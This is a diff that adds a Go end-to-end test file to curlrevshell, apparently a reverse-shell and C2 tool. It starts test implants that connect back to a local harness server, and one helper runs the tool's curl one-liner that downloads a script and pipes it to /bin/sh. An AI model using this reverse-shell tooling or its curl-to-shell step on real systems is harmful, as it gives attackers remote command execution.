@@ -0,0 +1,138 @@
+package e2e
+
+/*
+ * client.go
+ * Implants, for connecting to the harness
+ * By J. Stuart McMurray
+ * Created 20261016
+ * Last Modified 20261016
+ */
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"os/exec"
+	"time"
+
+	"github.com/magisterquis/curlrevshell/internal/hsrv"
+	"github.com/magisterquis/curlrevshell/lib/simpleshell"
+)
+
+// curlWaitDelay is how long we wait for curl's pipes to close after killing
+// it.
+const curlWaitDelay = time.Second
+
+// Client is an implant connected to a Harness, started with one of the
+// Harness's Go* methods.
+type Client struct {
+	cancel context.CancelFunc
+	done   chan struct{}
+	err    error
+}
+
+// goClient starts f in its own goroutine as a Client of h.
+func (h *Harness) goClient(f func(ctx context.Context) error) *Client {
+	ctx, cancel := context.WithCancel(context.Background())
+	c := &Client{cancel: cancel, done: make(chan struct{})}
+	go func() {
+		defer close(c.done)
+		c.err = f(ctx)
+		/* Being told to stop isn't an error. */
+		if nil != ctx.Err() {
+			c.err = nil
+		}
+	}()
+	h.clientsL.Lock()
+	defer h.clientsL.Unlock()
+	h.clients = append(h.clients, c)
+	return c
+}
+
+// Stop stops c and waits for it to finish.  It returns the error which
+// stopped c, if it stopped on its own first.
+func (c *Client) Stop() error {
+	c.cancel()
+	return c.Wait()
+}
+
+// Wait waits for c to finish on its own and returns its error.
+func (c *Client) Wait() error {
+	<-c.done
+	return c.err
+}
+
+// Done returns a channel which is closed when c is finished.
+func (c *Client) Done() <-chan struct{} { return c.done }
+
+// ConnConfig returns a simpleshell.ConnConfig for connecting to h's server's
+// /io.
+func (h *Harness) ConnConfig() simpleshell.ConnConfig {
+	return simpleshell.ConnConfig{
+		C2:          "https://" + h.Addr() + simpleshell.IOPath,
+		Fingerprint: h.Server.Fingerprint(),
+	}
+}
+
+// GoShell connects shell to h's server once, with simpleshell.Go and
+// h.ConnConfig.
+func (h *Harness) GoShell(shell simpleshell.Shell) *Client {
+	return h.GoShellWithConfig(h.ConnConfig(), shell)
+}
+
+// GoShellWithConfig is like GoShell, but with the given config.
+func (h *Harness) GoShellWithConfig(
+	conf simpleshell.ConnConfig,
+	shell simpleshell.Shell,
+) *Client {
+	return h.goClient(func(ctx context.Context) error {
+		return simpleshell.Go(ctx, conf, shell)
+	})
+}
+
+// GoReconnect connects shells from newShell to h's server over and over,
+// with simpleshell.GoReconnect and h.ConnConfig.
+func (h *Harness) GoReconnect(
+	rconf simpleshell.ReconnectConfig,
+	newShell func() (simpleshell.Shell, error),
+) *Client {
+	conf := h.ConnConfig()
+	return h.goClient(func(ctx context.Context) error {
+		return simpleshell.GoReconnect(ctx, conf, rconf, newShell)
+	})
+}
+
+// GoCurl runs the curl one-liner Curlrevshell prints, which gets a script
+// from /c and pipes it to /bin/sh.  It returns an error wrapping
+// exec.ErrNotFound if curl isn't installed.
+func (h *Harness) GoCurl() (*Client, error) {
+	if _, err := exec.LookPath("curl"); nil != err {
+		return nil, err
+	}
+	oneLiner := fmt.Sprintf(
+		hsrv.CurlFormat+hsrv.ShellSuffix,
+		h.Server.Fingerprint(),
+		h.Addr(),
+	)
+	return h.goClient(func(ctx context.Context) error {
+		cmd := exec.CommandContext(ctx, "/bin/sh", "-c", oneLiner)
+		cmd.WaitDelay = curlWaitDelay
+		out, err := cmd.CombinedOutput()
+		if nil != err && !errors.Is(err, exec.ErrWaitDelay) {
+			return fmt.Errorf("%w (output: %q)", err, out)
+		}
+		return nil
+	}), nil
+}
+
+// NewShell returns a Shell like simpleshell the program's: /bin/sh with file
+// transfers and framing.
+func NewShell() (simpleshell.Shell, error) {
+	cs, err := simpleshell.NewCmdShell(
+		exec.Command(simpleshell.DefaultShell),
+	)
+	if nil != err {
+		return nil, err
+	}
+	return simpleshell.NewFramedShell(simpleshell.NewTransferShell(cs)), nil
+}